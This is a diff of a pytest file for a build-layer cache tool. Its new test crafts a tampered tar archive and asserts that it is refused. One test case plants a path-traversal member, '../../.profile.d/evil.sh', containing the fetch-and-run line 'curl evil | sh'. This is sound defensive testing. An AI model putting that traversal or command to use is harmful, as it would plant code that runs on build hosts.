@@ -21,7 +21,6 @@ from slugbuild import records
 from slugbuild.cache import FILE_INDEX, PART_ONLY, TREE, Cache, Layer
 from slugbuild.layer_artifact import (
     STUB,
-    ArtifactInvalid,
     LayoutStore,
     ensure_tree,
     fetch_artifact,
@@ -90,7 +89,7 @@ def pulled(tmp_path: Path) -> tuple[Cache, Layer, Layer]:
     assert fetched is not None
     cache = Cache(tmp_path / "puller")
     with cache.lock("layers", NAME):
-        layer = materialise(cache, fetched, records.layer_problems, deferred=True)
+        layer = materialise(cache, fetched, records.layer_problems, part_only=True)
     return cache, layer, source
 
 
@@ -199,28 +198,40 @@ def test_a_tampered_part_only_layer_is_refused(pulled, tamper) -> None:
     assert not layer.path.exists() and not (layer.path.parent / NAME / TREE).exists()
 
 
-def test_a_pusher_without_a_stub_and_a_stub_that_lies(tmp_path: Path) -> None:
-    """An artifact whose index carries no stub (an older pusher) is checked by unpacking
-    its part in memory; one whose stub differs from its index is refused."""
+
+@pytest.mark.parametrize("extra", [{}, {"../../.profile.d/evil.sh": b"curl evil | sh\n"}],
+                         ids=["backdoored", "outside"])
+def test_a_part_unlike_its_index_is_never_kept_part_only(tmp_path: Path,
+                                                         extra: dict[str, bytes]) -> None:
+    """A build's pull checks every member of the part against the index before keeping
+    it part-only: a file with other bytes than listed (not one slug.json reads), or a
+    member outside the layer, and nothing is kept for slugs."""
+    import gzip
+    import io
+    import tarfile
+
+    from slugbuild.layer_artifact import ArtifactInvalid, Fetched
+
     source = _source_layer(tmp_path / "source")
     artifact = make_artifact(source, SPACE)
     assert artifact is not None
     store = LayoutStore(tmp_path / "layout", create=True)
     push_artifact(store, artifact)
-    for name, change in (("older", lambda index: [index.pop("stub"), index.pop("stub_data")]),
-                         ("lying", lambda index: index["stub_data"].update(
-                             {f"{SITE}/demo-1.0.dist-info/METADATA": "TmFtZTogZXZpbAo="}))):
-        fetched = fetch_artifact(store, SPACE, "layers", KEY)
-        assert fetched is not None
-        change(fetched.index)
-        cache = Cache(tmp_path / name)
-        with cache.lock("layers", NAME):
-            if name == "older":
-                layer = materialise(cache, fetched, records.layer_problems, deferred=True)
-                assert layer.lazy and part_problems(layer) == []
-                assert (layer.path / STUB / SITE / "demo-1.0.dist-info/METADATA").read_bytes() \
-                    == FILES[f"{SITE}/demo-1.0.dist-info/METADATA"]
-            else:
-                with pytest.raises(ArtifactInvalid):
-                    materialise(cache, fetched, records.layer_problems, deferred=True)
-                assert cache.lookup("layers", NAME, KEY, lazy=True) is None
+    fetched = fetch_artifact(store, SPACE, "layers", KEY)
+    assert fetched is not None
+    raw = io.BytesIO()
+    sent = {**FILES, f"{SITE}/demo-1.0.dist-info/RECORD": _record(FILES),
+            f"{SITE}/demo/core.py": b"answer = 0x2a\n", **extra}
+    with tarfile.open(fileobj=raw, mode="w") as tar:
+        for rel, data in sent.items():
+            info = tarfile.TarInfo(f"./.heroku/python/{rel}")
+            info.size = len(data)
+            tar.addfile(info, io.BytesIO(data))
+        link = tarfile.TarInfo("./.heroku/python/bin/demo-again")
+        link.type, link.linkname = tarfile.SYMTYPE, "demo"
+        tar.addfile(link)
+    crafted = Fetched(fetched.config, fetched.index, gzip.compress(raw.getvalue()))
+    cache = Cache(tmp_path / "puller")
+    with pytest.raises(ArtifactInvalid), cache.lock("layers", NAME):
+        materialise(cache, crafted, records.layer_problems, part_only=True)
+    assert cache.lookup("layers", NAME, KEY, lazy=True) is None
